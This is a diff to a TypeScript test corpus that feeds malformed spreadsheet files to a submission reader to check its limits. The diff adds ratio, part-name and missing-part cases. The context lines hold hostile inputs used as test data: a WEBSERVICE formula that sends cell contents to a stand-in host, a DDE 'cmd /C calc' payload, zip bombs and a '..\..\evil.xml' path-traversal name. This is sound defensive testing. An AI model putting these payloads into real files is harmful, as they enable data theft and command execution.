@@ -1,6 +1,6 @@
-// The bad-input corpus (SPEC 10, issue 5): each case builds its file from code and states the
+// The bad-input corpus (docs/limits.md, issue 5): each case builds its file from code and states the
 // outcome it must have, read alone and in one merge with every other case.
-import { strToU8, unzipSync } from "fflate";
+import { deflateSync, strToU8, unzipSync } from "fflate";
 import { DEFAULT_CONFIG } from "../../src/core/config";
 import type { IssueCode } from "../../src/core/issues/codes";
 import type { FileStatus, RowCounts } from "../../src/core/merge/types";
@@ -22,6 +22,7 @@ import {
   gridOf,
   oleFile,
   partNames,
+  partText,
   patch,
   repeated,
   replaceIn,
@@ -163,7 +164,7 @@ const HOUSEHOLDS_ROW1 = (field: string) => cellOf("households", field, 0);
 const FORMULA_WEBSERVICE = 'WEBSERVICE("http://example.invalid/?q="&A1)';
 const FORMULA_DDE = "cmd|' /C calc'!A0";
 
-/** Formula-like text typed into text fields (SPEC 10), and what the reader hands on. */
+/** Formula-like text typed into text fields (docs/limits.md), and what the reader hands on. */
 export const FORMULA_LIKE_TEXT = {
   note: "=1+1",
   funder: "\t=SUM(1,2)",
@@ -287,7 +288,7 @@ export const CASES: readonly CorpusCase[] = [
     expect: { unreadable: "encrypted" },
   },
 
-  // Zip limits (SPEC 10), judged from the directory before anything is expanded.
+  // Zip limits (docs/limits.md), judged from the directory before anything is expanded.
   {
     name: "bomb-declared-sheet",
     about: "a sheet whose directory entry declares 600 MB expanded",
@@ -309,7 +310,7 @@ export const CASES: readonly CorpusCase[] = [
       const head = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData>`;
       const tail = "</sheetData></worksheet>";
       const unit = '<row r="2"><c r="A2"><v>0</v></c></row>';
-      const count = Math.floor((100 * 1024 * 1024 - head.length - tail.length) / unit.length);
+      const count = Math.ceil((100 * 1024 * 1024 - head.length - tail.length) / unit.length);
       const body = repeated(unit, count * unit.length);
       const data = concat([strToU8(head), body, strToU8(tail)]);
       const parts = unzipSync(await submission(seed));
@@ -357,6 +358,24 @@ export const CASES: readonly CorpusCase[] = [
       );
     },
     expect: { unreadable: "expands-too-much" },
+  },
+  {
+    name: "large-sheet-high-ratio",
+    about:
+      "the households sheet padded with 100,000 formatted empty rows: 12.5 MiB, zipped over 121:1",
+    build: async (seed) => {
+      const bytes = await submission(seed);
+      const padding = `<row>${'<c s="0"/>'.repeat(12)}</row>`.repeat(100_000);
+      const sheet = replaceIn(
+        "</sheetData>",
+        `${padding}</sheetData>`,
+      )(partText(bytes, PART.households));
+      // Under 100:1 the case would prove nothing about the ratio rule.
+      const packed = strToU8(sheet);
+      if (packed.length <= 121 * deflateSync(packed).length) throw new Error("ratio too low");
+      return patch(bytes, { [PART.households]: sheet });
+    },
+    expect: { status: "accepted", rows: { households: { read: 2, merged: 2 } } },
   },
   {
     name: "parts-1000",
@@ -428,6 +447,35 @@ export const CASES: readonly CorpusCase[] = [
     about: "a part named ..\\..\\evil.xml (Windows separators)",
     build: (seed) => withEntries(seed, [{ name: "..\\..\\evil.xml", data: "<a/>" }]),
     expect: { unreadable: "bad-part-name" },
+  },
+
+  {
+    name: "windows-part-names",
+    about:
+      "part names with backslashes (xl\\workbook.xml), lower-case [content_types].xml, no _rels/.rels",
+    build: async (seed) =>
+      writeZip(
+        Object.entries(unzipSync(await submission(seed)))
+          .filter(([name]) => name !== "_rels/.rels")
+          .map(([name, data]) => ({
+            name: name.replace("[Content_Types]", "[content_types]").replaceAll("/", "\\"),
+            data,
+          })),
+      ),
+    expect: {
+      status: "accepted",
+      rows: { villages: { merged: 1 }, funds: { merged: 1 }, households: { merged: 2 } },
+    },
+  },
+  {
+    name: "duplicate-part-backslash",
+    about:
+      "parts xl/worksheets/sheet2.xml and xl\\worksheets\\sheet2.xml (the same name once \\ is /)",
+    build: async (seed) =>
+      withEntries(seed, [
+        { name: "xl\\worksheets\\sheet2.xml", data: `<worksheet xmlns="${MAIN}"/>` },
+      ]),
+    expect: { unreadable: "duplicate-part" },
   },
 
   // XML that asks for a DTD: never processed.
@@ -1256,6 +1304,26 @@ export const CASES: readonly CorpusCase[] = [
         ["submission", null, "sheet-missing"],
         ["villages", null, "sheet-missing"],
       ],
+    },
+  },
+  {
+    name: "sheet-part-missing",
+    about: "the funds sheet's relationship points to a part the package lacks",
+    build: async (seed) => patch(await submission(seed), { [PART.funds]: null }),
+    expect: {
+      status: "accepted",
+      issues: [["funds", null, "sheet-missing"]],
+      rows: { villages: { merged: 1 }, funds: { read: 0 }, households: { merged: 2 } },
+    },
+  },
+  {
+    name: "villages-part-missing",
+    about: "the villages sheet's relationship points to a part the package lacks",
+    build: async (seed) => patch(await submission(seed), { [PART.villages]: null }),
+    expect: {
+      status: "rejected",
+      issues: [["villages", null, "sheet-missing"]],
+      rows: { households: { read: 2, merged: 0 } },
     },
   },
   {
